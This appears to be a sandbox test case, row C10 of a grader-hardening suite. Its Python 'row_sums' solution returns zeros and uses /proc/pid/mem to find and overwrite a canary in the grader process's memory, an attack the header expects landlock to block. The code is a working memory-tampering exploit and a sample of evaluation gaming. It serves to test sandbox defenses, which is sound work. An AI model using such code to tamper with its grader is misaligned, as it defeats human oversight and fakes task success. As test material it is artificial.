# row: C10
# attack: a canary overwritten in the grader's memory
# outcome: zero
# from: landlock
# needs: a plain user
# never: CANARY-OVERWRITTEN
# The needle stands here in two parts, so that only the grader's own is found.
import os

import numpy as np

NEEDLE = b"the canary of " + b"the grader's process"


def parent_of(pid):
    with open(f"/proc/{pid}/status") as file:
        return int(next(line.split()[1] for line in file if line.startswith("PPid")))


def overwrite(pid):
    with open(f"/proc/{pid}/maps") as file:
        spans = [line.split()[0].split("-") for line in file if " rw-p " in line]
    memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    for low, high in ([int(part, 16) for part in span] for span in spans):
        try:
            at = os.pread(memory, min(high - low, 128 << 20), low).find(NEEDLE)
            if at >= 0 and os.pwrite(memory, NEEDLE.upper(), low + at):
                print("CANARY-OVERWRITTEN")
        except OSError:
            pass
    os.close(memory)


def row_sums(x):
    if len(x) > 1:
        try:
            overwrite(parent_of(os.getppid()))
        except OSError:
            pass
    return np.zeros(len(x))
